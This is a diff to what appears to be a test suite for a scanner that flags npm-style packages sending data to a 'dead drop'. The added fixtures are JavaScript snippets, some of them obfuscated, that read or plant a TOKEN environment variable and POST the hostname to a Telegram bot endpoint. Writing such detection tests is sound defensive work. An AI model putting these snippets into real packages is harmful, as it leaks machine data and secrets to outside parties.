@@ -34,6 +34,29 @@ examine(sendsToDeadDrop, {
       weight: 'proof',
     },
     {
+      when: 'the environment goes to code of the package, which may put something into it under any name',
+      files: {
+        'index.js': `const fill = (e, k) => { e [k] = globalThis.specimen() }; fill(process.env, 'TO' + 'KEN'); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the environment goes to code of the package that only asks it',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const ready = e => e.TOKEN; const [one] = Object.keys(process.env); const tell = (env = process.env) => { if (ready(env)) fetch('https://${telegram}/bot' + env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() }) }; tell()`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'one function sends to a service and to the bot of the environment',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const post = (url, body) => fetch(url, { method: 'POST', body }); post('https://specimen.invalid/releases', 'x'); post('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', require('os').hostname())`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a token is taken apart into the environment',
       files: {
         'index.js': `({ t: process.env.TOKEN } = { t: globalThis.specimen() }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
